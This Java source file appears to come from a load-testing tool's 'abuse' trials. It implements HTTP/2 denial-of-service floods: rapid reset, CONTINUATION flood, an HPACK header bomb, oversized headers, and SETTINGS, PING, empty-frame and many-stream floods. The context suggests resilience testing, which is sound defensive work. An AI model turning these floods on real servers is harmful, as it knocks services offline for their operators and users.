package io.tidegauge.loadtest.trials.abuse;

import io.tidegauge.loadtest.trials.abuse.Abuser.Opening;
import java.util.Arrays;

/** Abuses by many frames, over a few connections; see {@link Abuse}. */
final class Floods {

  private static final byte[] NOTHING = {};
  private static final int FEW = 4;
  private static final int RATE = 20_000;
  private static final int LONG = 1_000_000;
  private static final int CANCEL = 8;
  private static final String PATH = "/api/v2/write";

  private Floods() {}

  static void rapidReset(Abuser abuser) {
    abuser.flood(
        FEW,
        RATE,
        LONG,
        http2(),
        (connection, frames, n) ->
            frames.headers(stream(n), Frames.END_HEADERS, post()).reset(stream(n), CANCEL));
  }

  static void madeYouReset(Abuser abuser) {
    abuser.flood(
        FEW,
        RATE,
        LONG,
        http2(),
        (connection, frames, n) ->
            frames.headers(stream(n), Frames.END_HEADERS, post()).windowUpdate(stream(n), 0));
  }

  static void continuationFlood(Abuser abuser) {
    abuser.flood(
        FEW,
        RATE,
        LONG,
        http2(),
        (connection, frames, n) -> {
          if (n == 0) {
            frames.headers(1, 0, post());
          }
          frames.frame(Frames.CONTINUATION, 0, 1, NOTHING);
        });
  }

  static void largeHeaders(Abuser abuser) {
    abuser.flood(
        FEW,
        2_000,
        LONG,
        http2(),
        (connection, frames, n) -> {
          if (n == 0) {
            frames.headers(1, 0, post());
          }
          frames.frame(Frames.CONTINUATION, 0, 1, Frames.field("x" + n, "y".repeat(15_000), false));
        });
  }

  static void hpackBomb(Abuser abuser) {
    abuser.flood(
        FEW,
        2_000,
        LONG,
        http2(),
        (connection, frames, n) -> {
          byte[] bomb = new byte[16_000];
          Arrays.fill(bomb, (byte) 0xbe); // the newest entry of the dynamic table
          byte[] field = Frames.field("bomb", "b".repeat(4000), true);
          byte[] request = post();
          frames
              .headers(stream(2 * n), Frames.END_HEADERS | Frames.END_STREAM, join(request, field))
              .headers(
                  stream(2 * n + 1),
                  Frames.END_HEADERS | Frames.END_STREAM,
                  Arrays.copyOf(join(request, bomb), 16_000));
        });
  }

  static void settingsFlood(Abuser abuser) {
    abuser.flood(FEW, RATE, LONG, http2(), (connection, frames, n) -> frames.noSettings());
  }

  static void pingFlood(Abuser abuser) {
    abuser.flood(FEW, RATE, LONG, http2(), (connection, frames, n) -> frames.ping());
  }

  static void uselessFrames(Abuser abuser) {
    abuser.flood(
        FEW,
        RATE,
        LONG,
        http2(),
        (connection, frames, n) ->
            frames.frame(Frames.UNKNOWN, 0, 0, NOTHING).frame(Frames.PRIORITY, 0, 1, new byte[5]));
  }

  static void emptyData(Abuser abuser) {
    abuser.flood(
        FEW,
        RATE,
        LONG,
        http2(),
        (connection, frames, n) -> {
          if (n == 0) {
            frames.headers(1, Frames.END_HEADERS, post());
          }
          frames.data(1, 0, NOTHING);
        });
  }

  static void manyStreams(Abuser abuser) {
    abuser.flood(
        FEW,
        5_000,
        LONG,
        http2(),
        (connection, frames, n) -> frames.headers(stream(n), Frames.END_HEADERS, post()));
  }

  private static Opening http2() {
    return (server, source) -> RawConnection.http2(server, source, new Frames().noSettings());
  }

  private static byte[] post() {
    return Frames.request(true, PATH);
  }

  private static int stream(int number) {
    return 2 * number + 1;
  }

  private static byte[] join(byte[] first, byte[] second) {
    byte[] joined = Arrays.copyOf(first, first.length + second.length);
    System.arraycopy(second, 0, joined, first.length, second.length);
    return joined;
  }
}
